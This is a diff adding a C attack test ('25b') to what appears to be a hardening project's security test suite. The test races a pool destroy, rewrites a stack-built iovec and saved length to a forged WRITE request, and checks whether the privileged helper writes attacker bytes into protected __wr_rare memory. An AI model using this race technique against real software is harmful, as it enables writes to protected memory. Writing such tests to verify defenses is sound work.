@@ -149,3 +149,137 @@ ATTACK("25a", review3_add_fd_swap,
 	attack_report(ATTACK_BLOCKED, "%lu pools, %lu stores, table intact",
 		      tries, r3a.stores);
 }
+
+/*
+ * 25b: the same lock wait, for a pool's destroy. ctl() builds the DEL
+ * request, its iovec and its msghdr on its stack before it waits for
+ * req_lock; the attacker points the iovec at a message of its own, a
+ * WRITE of the attacker's bytes into the program's __wr_rare section. The
+ * helper takes it for the program's (the kernel's credentials are the
+ * program's) and applies it: a pool's destroy, which writes nothing,
+ * writes the attacker's bytes anywhere in protected memory, and the pool
+ * stays registered with the helper.
+ */
+static uint64_t r3_victim[2] __wr_rare __attribute__((aligned(16)));
+
+static struct {
+	uint64_t *lo, *hi;
+	volatile int stop;
+	volatile unsigned long stores, lens;
+	void *req_lock;
+	volatile int32_t tid;
+	int held;
+	struct {
+		uint32_t op, nseg;
+		uint64_t seq, id, start, len;
+		uint32_t cpu, pad;
+		uint64_t dst, slen;
+		uint32_t flags;
+		int32_t fill;
+		uint64_t val;
+	} fake;
+} r3b;
+
+__attribute__((no_sanitize_address)) static void *r3b_attacker(void *p)
+{
+	(void)p;
+	while (!r3b.stop) {
+		for (volatile uint64_t *w = r3b.lo; w + 3 < r3b.hi; w++) {
+			/* struct iovec {&m, 48} right before m, m.op DEL */
+			if (w[0] != (uint64_t)(uintptr_t)&w[2] || w[1] != 48 ||
+			    (uint32_t)w[2] != 3)
+				continue;
+			w[0] = (uint64_t)(uintptr_t)&r3b.fake;
+			w[1] = sizeof(r3b.fake);
+			r3b.stores++;
+			/* transact() keeps the length it expects sendmsg() to
+			 * return in its frame (0x8(%rsp), 0x98 below ctl()'s
+			 * iovec in this build): once the victim holds req_lock,
+			 * keep it the fake's until the slot is reused. */
+			volatile uint64_t *len = w - 0x98 / 8;
+			volatile int32_t *owner =
+				(volatile int32_t *)((char *)r3b.req_lock + 8);
+
+			for (unsigned long n = 0; n < 200000000 && !r3b.stop;
+			     n++) {
+				if (*owner != r3b.tid) {
+					if (r3b.held)
+						break;
+					continue;
+				}
+				r3b.held = 1;
+				if (*len == 48) {
+					*len = sizeof(r3b.fake);
+					r3b.lens++;
+				}
+			}
+			r3b.held = 0;
+		}
+	}
+	return NULL;
+}
+
+static void *r3b_victim(void *p)
+{
+	unsigned long *tries = p;
+
+	r3b.tid = (int32_t)gettid();
+	for (unsigned i = 0; i < 300; i++) {
+		struct rare_pool *pool = rare_pool_create(4096);
+
+		++*tries;
+		if (pool)
+			rare_pool_destroy(pool);
+		if (attack_load64(&r3_victim[1]) == ATTACK_MARKER)
+			break;
+	}
+	return NULL;
+}
+
+ATTACK("25b", review3_del_to_write,
+       "while another thread writes, point the iovec of a pool's DEL "
+       "request (built on the stack before the request lock) at a write "
+       "request of the attacker's, then destroy a pool")
+{
+	pthread_t v, w, a;
+	pthread_attr_t attr;
+	unsigned long tries = 0;
+	void *stack;
+
+	if (!r3_is_process())
+		attack_report(ATTACK_NA, "no helper");
+	rare_write(r3_victim[0], 1);
+	r3b.req_lock = attack_lib_sym("req_lock");
+	if (!r3b.req_lock)
+		attack_report(ATTACK_ERROR, "no req_lock symbol");
+	r3b.fake.op = 1; /* PRW_OP_WRITE */
+	r3b.fake.nseg = 1;
+	r3b.fake.dst = (uintptr_t)&r3_victim[1];
+	r3b.fake.slen = 8;
+	r3b.fake.val = ATTACK_MARKER;
+	stack = mmap(NULL, R3_STACK, PROT_READ | PROT_WRITE,
+		     MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
+	if (stack == MAP_FAILED)
+		attack_report(ATTACK_ERROR, "mmap");
+	r3b.lo = stack;
+	r3b.hi = (uint64_t *)((char *)stack + R3_STACK);
+	pthread_attr_init(&attr);
+	pthread_attr_setstack(&attr, stack, R3_STACK);
+	attack_begin();
+	r3a.stop = 0;
+	pthread_create(&w, NULL, r3a_writer, NULL);
+	pthread_create(&a, NULL, r3b_attacker, NULL);
+	pthread_create(&v, &attr, r3b_victim, &tries);
+	pthread_join(v, NULL);
+	if (attack_load64(&r3_victim[1]) == ATTACK_MARKER)
+		attack_report(ATTACK_OPEN,
+			      "a pool's destroy wrote the attacker's bytes into "
+			      "the section (%lu pools, %lu stores, %lu lengths)",
+			      tries, r3b.stores, r3b.lens);
+	r3a.stop = r3b.stop = 1;
+	pthread_join(w, NULL);
+	pthread_join(a, NULL);
+	attack_report(ATTACK_BLOCKED,
+		      "%lu pools, %lu stores, %lu lengths, section intact",
+		      tries, r3b.stores, r3b.lens);
+}
